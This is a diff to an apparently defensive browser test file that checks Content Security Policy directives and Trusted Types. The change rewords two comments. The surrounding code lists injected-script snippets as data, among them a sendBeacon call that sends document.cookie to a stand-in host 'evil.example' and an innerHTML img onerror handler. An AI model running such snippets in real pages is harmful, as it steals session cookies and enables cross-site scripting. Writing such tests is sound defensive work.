@@ -6,7 +6,7 @@ import { expect, test } from '../test.ts';
 
 const elsewhere = 'https://evil.example';
 
-/** What code that found its way into a page would try, and which directive of the policy stops it. */
+/** Actions that injected code would try, and the directive of the policy that stops each. */
 const tries = {
   'base-uri': `const base = document.createElement('base'); base.href = evil; document.head.append(base)`,
   'connect-src': `fetch(evil).catch(() => {}); navigator.sendBeacon(evil, document.cookie)`,
@@ -19,7 +19,7 @@ const tries = {
   'style-src-elem': `const style = document.createElement('style'); style.textContent = 'body { display: none }'; document.head.append(style)`,
 };
 
-/** What Trusted Types stop before it begins: each of these throws. */
+/** Actions that Trusted Types stop: each of these throws. */
 const sinks = {
   'markup with a handler': `document.body.innerHTML = '<img src=x onerror="window.wasRun = true">'`,
   'a handler in an attribute': `document.body.setAttribute('onclick', 'window.wasRun = true')`,
